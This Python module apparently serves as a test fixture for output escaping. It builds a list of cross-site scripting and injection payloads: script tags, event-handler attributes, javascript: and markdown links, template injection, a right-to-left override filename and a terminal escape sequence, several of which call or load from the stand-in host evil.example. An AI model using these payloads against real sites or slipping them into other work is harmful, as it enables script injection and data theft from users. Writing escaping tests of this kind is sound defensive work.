"""Texts that become scripts or requests where they are not escaped for their place."""

from __future__ import annotations

from typing import Final

_CALLS = ("alert(1)", "fetch('http://evil.example/')", "confirm(2)", "new Image().src='http://evil.example/i'")
_SHAPES = (
    "<script>{}</script>", "<img src=x onerror={}>", "\"><svg/onload={}>", "'><body onpageshow={}>", "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>", "<a href=javascript:{}>x</a>", "[x](javascript:{})", "[x](<javascript:{}>)", "[x]: javascript:{}\n\n[x]",
    "</pre></code><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>", "--><script>{}</script>",
    "\" autofocus onfocus={} x=\"", "' onmouseover={} '", "`${{{}}}`", "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
)  # fmt: skip
_OTHERS = (
    "![x](http://evil.example/p.png)", "<img src=http://evil.example/a.png>", "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>", "<base href=http://evil.example/>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<object data=http://evil.example/></object>", "<form action=http://evil.example/><input autofocus></form>", "{{ 7*7 }} {% import 'os' %}",
    "\u202etxt.exe", "\x1b]8;;http://evil.example/\x07x", "<x style=background:url(http://evil.example/b)>",
)  # fmt: skip
PAYLOADS: Final = (*(shape.format(call) for shape in _SHAPES for call in _CALLS), *_OTHERS)
